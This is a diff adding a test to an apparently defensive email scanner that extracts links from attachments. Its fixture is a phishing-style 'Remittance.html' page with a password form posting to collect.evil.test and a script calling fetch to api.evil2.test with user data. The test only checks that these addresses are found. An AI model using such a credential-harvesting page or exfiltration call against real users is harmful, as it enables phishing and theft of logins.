@@ -35,3 +35,15 @@ test("an Office document's hyperlinks join them too; its own parts, local files 
   const broken = { subject: 'x', text: '', html: null, attachments: [attachment('kaputt.docx', 'application/octet-stream', docx.subarray(0, 100))] };
   assert.deepEqual(await messageLinks(broken), []);
 });
+
+test("an attached web page's links, form targets and the addresses in its scripts join them too", async () => {
+  const page = Buffer.from(`<!DOCTYPE html><html><head><script src="https://code.jquery.test/jquery.min.js"></script></head><body>
+<form action="https://collect.evil.test/post.php" method="post"><input type="password" name="p"></form>
+<script>fetch('https://api.evil2.test/log?u=' + user); var next = "https://www.example.com/owa";</script>
+<a href="mailto:it@example.com">IT</a></body></html>`);
+  const view = { subject: 'Remittance', text: 'See the attached remittance.', html: null, attachments: [attachment('Remittance.html', 'application/octet-stream', page)] };
+  assert.deepEqual((await messageLinks(view)).map((l) => `${l.url} (${l.in})`), [
+    'https://collect.evil.test/post.php (an attached web page)', 'https://code.jquery.test/jquery.min.js (an attached web page)',
+    "https://api.evil2.test/log?u= (an attached web page)", 'https://www.example.com/owa (an attached web page)',
+  ]);
+});
